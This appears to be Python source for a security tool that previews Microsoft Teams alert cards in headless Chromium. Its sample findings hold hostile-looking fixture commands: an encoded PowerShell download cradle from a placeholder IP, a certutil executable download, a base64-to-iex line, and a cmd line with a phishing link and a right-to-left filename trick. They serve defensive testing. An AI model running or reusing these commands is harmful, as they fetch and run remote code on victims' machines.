"""Preview a Teams payload: the JSON, an HTML page rendered by Microsoft's ``adaptivecards``
renderer, and a PNG screenshot from headless Chromium.

The HTML page is self-contained (the renderer, markdown-it and ``render_card.js`` are inlined),
so it opens from any folder. The same page checks the card: it writes the renderer's parse and
validation warnings (against card version 1.4), its console warnings, the links and images it
rendered into ``<pre id="huntwire-check">``, which :func:`check_card` reads back through
``chromium --dump-dom``.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from .cards import card_of, payload_size
from .hunt import Hunt

PACKAGE_DIR = Path(__file__).resolve().parent
REPO = PACKAGE_DIR.parent
RENDERER_JS = ("adaptivecards", "dist", "adaptivecards.min.js")
MARKDOWN_JS = ("markdown-it", "dist", "browser", "markdown-it.umd.min.js")
PAGE_WIDTH = 900
FIRST_SHOT_HEIGHT = 2000
"""Window height of a screenshot taken without knowing the card (see :func:`window_for`)."""
HEIGHT_PER_FINDING = 360
HEIGHT_PER_LINE = 60
"""Generous: the window is cropped to the card afterwards, a short window needs a second shot."""
MAX_PAGE_HEIGHT = 16_000
BROWSER_TIMEOUT_SECONDS = 60
CHROMIUM_NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
CHROMIUM_FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                  "--no-first-run", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
                  "--hide-scrollbars", "--host-resolver-rules=MAP * ~NOTFOUND")
"""Headless, and no network at all: the page is self-contained."""
_CHECK = re.compile(r'<pre id="huntwire-check"[^>]*>(.*?)</pre>', re.DOTALL)


class PreviewError(Exception):
    """The preview could not be produced (renderer files or browser missing, browser failed)."""


@dataclass(frozen=True)
class CardCheck:
    """What the Adaptive Cards renderer made of the card in Chromium."""

    rendered: bool
    card_version: str | None
    warnings: tuple[str, ...]
    console: tuple[str, ...]
    links: tuple[str, ...]
    images: int
    markdown_elements: int
    text_runs: int
    markdown_in_text_runs: tuple[str, ...]
    height: int

    @property
    def problems(self) -> tuple[str, ...]:
        """Everything that should stop this card from being sent."""
        found = [*self.warnings, *self.console]
        if not self.rendered:
            found.append("card did not render")
        found += [f"markdown construct in TextRun: {text}" for text in self.markdown_in_text_runs]
        return tuple(found)

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> CardCheck:
        return cls(
            rendered=bool(data.get("rendered")),
            card_version=data.get("cardVersion"),
            warnings=tuple(str(w) for w in data.get("warnings", [])),
            console=tuple(str(c) for c in data.get("console", [])),
            links=tuple(str(link) for link in data.get("links", [])),
            images=int(data.get("images", 0)),
            markdown_elements=int(data.get("markdownElements", 0)),
            text_runs=int(data.get("textRuns", 0)),
            markdown_in_text_runs=tuple(json.dumps(m, ensure_ascii=False)
                                        for m in data.get("markdownInTextRuns", [])),
            height=int(data.get("height", 0)),
        )


@dataclass(frozen=True)
class PreviewFiles:
    json: Path
    html: Path
    png: Path | None
    payload_bytes: int = 0
    check: CardCheck | None = field(default=None, compare=False)
    """The renderer's verdict; present when the browser ran (that is, with ``png=True``)."""


# --------------------------------------------------------------------------------------------
# Browser
# --------------------------------------------------------------------------------------------

def find_chromium() -> Path:
    """``$HUNTWIRE_CHROMIUM`` or the first Chromium on PATH."""
    configured = os.environ.get("HUNTWIRE_CHROMIUM")
    candidates = [configured] if configured else [shutil.which(n) for n in CHROMIUM_NAMES]
    for candidate in candidates:
        if candidate and Path(candidate).exists():
            return Path(candidate)
    raise PreviewError("Chromium not found: install it (Debian: apt-get install -y chromium) "
                       "or set HUNTWIRE_CHROMIUM")


@dataclass(frozen=True)
class Chromium:
    """Headless Chromium, one fresh profile per run."""

    binary: Path
    timeout_seconds: float = BROWSER_TIMEOUT_SECONDS

    @classmethod
    def find(cls) -> Chromium:
        return cls(find_chromium())

    def dump_dom(self, page: Path, *, screenshot: Path | None = None,
                 window: tuple[int, int] = (PAGE_WIDTH, FIRST_SHOT_HEIGHT)) -> str:
        """The page's DOM after its scripts ran; with *screenshot*, also a PNG of the window
        (one browser start for both)."""
        arguments = ["--dump-dom", f"--window-size={window[0]},{window[1]}"]
        if screenshot is not None:
            arguments.append(f"--screenshot={screenshot.resolve()}")
        dom = self._run(arguments, page)
        if screenshot is not None and (not screenshot.is_file() or screenshot.stat().st_size == 0):
            raise PreviewError("Chromium wrote no screenshot")
        return dom

    def _run(self, arguments: Sequence[str], page: Path) -> str:
        with tempfile.TemporaryDirectory(prefix="huntwire-chromium-") as profile:
            command = [str(self.binary), *CHROMIUM_FLAGS, f"--user-data-dir={profile}",
                       *arguments, page.resolve().as_uri()]
            try:
                done = subprocess.run(command, capture_output=True, text=True,
                                      timeout=self.timeout_seconds, check=False)
            except subprocess.TimeoutExpired:
                raise PreviewError(f"Chromium did not finish within {self.timeout_seconds:.0f} s"
                                   ) from None
        if done.returncode != 0:
            raise PreviewError(f"Chromium failed (exit {done.returncode}): "
                               f"{done.stderr.strip()[-500:]}")
        return done.stdout


# --------------------------------------------------------------------------------------------
# Page
# --------------------------------------------------------------------------------------------

def node_modules() -> Path:
    """The repository's node_modules (``npm ci``), or one in the current folder."""
    for root in (REPO, Path.cwd()):
        candidate = root / "node_modules"
        if (candidate.joinpath(*RENDERER_JS)).is_file():
            return candidate
    raise PreviewError("node_modules/adaptivecards not found: run `make setup` (npm ci)")


def _script(*parts: str) -> str:
    path = node_modules().joinpath(*parts)
    if not path.is_file():
        raise PreviewError(f"{'/'.join(parts)} not found in node_modules: run `make setup`")
    return _inline(path.read_text(encoding="utf-8"))


def _inline(script: str) -> str:
    """Script text that cannot close its own ``<script>`` element."""
    return script.replace("</script", "<\\/script")


def payload_json_for_html(payload: dict[str, Any]) -> str:
    """JSON safe inside ``<script type="application/json">``: no ``<``, ``>`` or ``&`` at all."""
    text = json.dumps(payload, ensure_ascii=False, indent=1)
    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def render_html(payload: dict[str, Any]) -> str:
    """A standalone page that renders *payload*'s card as Teams would, and checks it."""
    renderer = (PACKAGE_DIR / "render_card.js").read_text(encoding="utf-8")
    return f"""<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy"
      content="default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'">
<title>huntwire Teams card preview</title>
<style>
  body {{ margin: 0; padding: 20px; background: #ebebeb;
         font-family: 'Segoe UI', 'Helvetica Neue', Arial, sans-serif; }}
  #card {{ max-width: {PAGE_WIDTH - 60}px; background: #ffffff; border-radius: 6px;
          box-shadow: 0 1px 4px rgba(0, 0, 0, 0.18); overflow: hidden; }}
  .ac-textRun {{ white-space: pre-wrap; overflow-wrap: anywhere; }}
  .ac-pushButton {{ background: #5b5fc7; color: #ffffff; border: none; border-radius: 4px;
                   padding: 6px 14px; font: 600 14px 'Segoe UI', Arial, sans-serif; }}
</style>
</head>
<body>
<div id="card"></div>
<pre id="huntwire-check" hidden></pre>
<script type="application/json" id="huntwire-payload">{payload_json_for_html(payload)}</script>
<script>{_script(*MARKDOWN_JS)}</script>
<script>{_script(*RENDERER_JS)}</script>
<script>{_inline(renderer)}</script>
</body>
</html>
"""


def check_card(page: Path, browser: Chromium, *, screenshot: Path | None = None,
               window: tuple[int, int] = (PAGE_WIDTH, FIRST_SHOT_HEIGHT)) -> CardCheck:
    """Load *page* in *browser* and read back what the renderer reported (and, with
    *screenshot*, save a PNG of the window)."""
    match = _CHECK.search(browser.dump_dom(page, screenshot=screenshot, window=window))
    if not match or not match.group(1).strip():
        raise PreviewError("the preview page reported nothing (did its script run?)")
    return CardCheck.from_json(json.loads(html.unescape(match.group(1))))


class _TextOf(HTMLParser):
    """The visible text of the rendered card (``<div id="card">``), one line per block."""

    BLOCKS = frozenset({"div", "p", "br", "li", "tr"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.parts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth or ("id", "card") in attrs:
            self.depth += tag != "br"
            if tag in self.BLOCKS:
                self.parts.append("\n")

    def handle_endtag(self, tag: str) -> None:
        if self.depth and tag != "br":
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.parts.append(data)


def rendered_text(payload: dict[str, Any], out_dir: Path, browser: Chromium) -> str:
    """The text the ``adaptivecards`` renderer shows for *payload* in *browser* (what an analyst
    reads), block by block, blank lines dropped."""
    page = out_dir / "rendered.html"
    page.write_text(render_html(payload), encoding="utf-8")
    parser = _TextOf()
    parser.feed(browser.dump_dom(page, window=window_for(payload)))
    lines = (" ".join(line.split()) for line in "".join(parser.parts).splitlines())
    return "\n".join(line for line in lines if line)


def write_preview(payload: dict[str, Any], out_dir: Path, *, png: bool = True,
                  browser: Chromium | None = None) -> PreviewFiles:
    """Write ``card.json``, ``card.html`` and (with *png*) ``card.png`` into *out_dir*.

    With *png* the browser also checks the card; read ``PreviewFiles.check.problems``.
    """
    out_dir.mkdir(parents=True, exist_ok=True)
    json_path = out_dir / "card.json"
    json_path.write_text(json.dumps(payload, ensure_ascii=False, indent=2) + "\n",
                         encoding="utf-8")
    html_path = out_dir / "card.html"
    html_path.write_text(render_html(payload), encoding="utf-8")
    if not png:
        return PreviewFiles(json_path, html_path, None, payload_size(payload))
    chromium = browser or Chromium.find()
    png_path = out_dir / "card.png"
    window = window_for(payload)
    check = check_card(html_path, chromium, screenshot=png_path, window=window)
    height = min(MAX_PAGE_HEIGHT, max(100, check.height))
    if height > window[1]:
        check_card(html_path, chromium, screenshot=png_path, window=(PAGE_WIDTH, height))
    crop_height(png_path, height)
    return PreviewFiles(json_path, html_path, png_path, payload_size(payload), check)


def window_for(payload: dict[str, Any]) -> tuple[int, int]:
    """A window tall enough for the card in one browser run, most of the time."""
    body = card_of(payload).get("body") or []
    findings = sum(1 for element in body if element.get("type") == "Container")
    others = len(body) - findings
    return PAGE_WIDTH, min(MAX_PAGE_HEIGHT, max(800, 400 + HEIGHT_PER_FINDING * findings
                                                + HEIGHT_PER_LINE * others))


def crop_height(png: Path, height: int) -> None:
    """Cut the screenshot's empty bottom below the card."""
    from PIL import Image

    with Image.open(png) as image:
        if image.height <= height:
            return
        cropped = image.crop((0, 0, image.width, height))
    cropped.save(png)


# --------------------------------------------------------------------------------------------
# Sample findings
# --------------------------------------------------------------------------------------------

SAMPLE_NOW = datetime(2026, 11, 27, 23, 0, tzinfo=UTC)
_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"


def sample_hunt() -> Hunt:
    """A Defender hunt like the ones huntwire ships, for previews without a hunts folder."""
    return Hunt(
        id="6f1d3a52-8c1e-4c47-9a0e-2f6b1c9d7e01",
        name="Encoded PowerShell started by an Office application",
        query=("DeviceProcessEvents\n"
               "| where InitiatingProcessFileName in~ (\"winword.exe\", \"excel.exe\", "
               "\"outlook.exe\")\n"
               "| where FileName in~ (\"powershell.exe\", \"pwsh.exe\")\n"
               "| where ProcessCommandLine has_any (\"-enc\", \"-EncodedCommand\")\n"
               "| project Timestamp, DeviceId, DeviceName, AccountDomain, AccountName, "
               "InitiatingProcessFileName, FileName, ProcessCommandLine, ReportId"),
        source="defender",
        path=Path("samples/preview-hunt.yaml"),
        description="PowerShell with an encoded command, launched by Word, Excel or Outlook: "
                    "the usual shape of a macro dropper.",
        severity="High",
        tactics=("Execution", "DefenseEvasion", "CommandAndControl"),
        techniques=("T1059.001", "T1027", "T1105", "T1204.002"),
    )


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def sample_rows() -> list[dict[str, Any]]:
    """Four Defender DeviceProcessEvents-shaped findings; the last one is hostile."""
    return [
        _sample(0, "ws-fin-042.contoso.local", "contoso", "j.doe", "WINWORD.EXE",
                "powershell.exe",
                f"powershell.exe -NoP -NonI -W Hidden -Enc {_encoded(_CRADLE)}",
                DecodedCommand=_CRADLE),
        _sample(7, "ws-hr-007.contoso.local", "contoso", "a.smith", "cmd.exe", "certutil.exe",
                "certutil.exe -urlcache -split -f https://cdn.example.net/update.bin "
                "C:\\Users\\Public\\u.exe"),
        _sample(19, "srv-app-01.contoso.local", "contoso", "svc_backup", "EXCEL.EXE",
                "powershell.exe",
                "powershell.exe -ep bypass -c \"[Text.Encoding]::UTF8.GetString("
                "[Convert]::FromBase64String('SQBFAFgA'))|iex\""),
        _sample(31, "ws-fin-042.contoso.local", "contoso", "j.doe", "OUTLOOK.EXE", "cmd.exe",
                "cmd.exe /c echo [Reset your password](https://evil.example/login) "
                "<at>SOC Lead</at> & start invoice\u202egpj.exe\u200b"),
    ]


def _sample(minutes: int, device: str, domain: str, account: str, parent: str, process: str,
            command_line: str, **extra: Any) -> dict[str, Any]:
    return {
        "Timestamp": (SAMPLE_NOW - timedelta(minutes=47 - minutes)).isoformat()
        .replace("+00:00", "Z"),
        "DeviceId": hashlib.sha1(device.encode(), usedforsecurity=False).hexdigest(),
        "DeviceName": device,
        "AccountDomain": domain,
        "AccountName": account,
        "InitiatingProcessFileName": parent,
        "FileName": process,
        "ProcessCommandLine": command_line,
        "ReportId": 1000 + minutes,
        **extra,
    }


def many_sample_rows(count: int) -> list[dict[str, Any]]:
    """*count* findings cycling through :func:`sample_rows`, each with its own time and id."""
    base = sample_rows()
    rows = []
    for index in range(count):
        row = dict(base[index % len(base)])
        row["ReportId"] = 1000 + index
        moment = SAMPLE_NOW - timedelta(seconds=30 * (count - index))
        row["Timestamp"] = moment.isoformat().replace("+00:00", "Z")
        rows.append(row)
    return rows
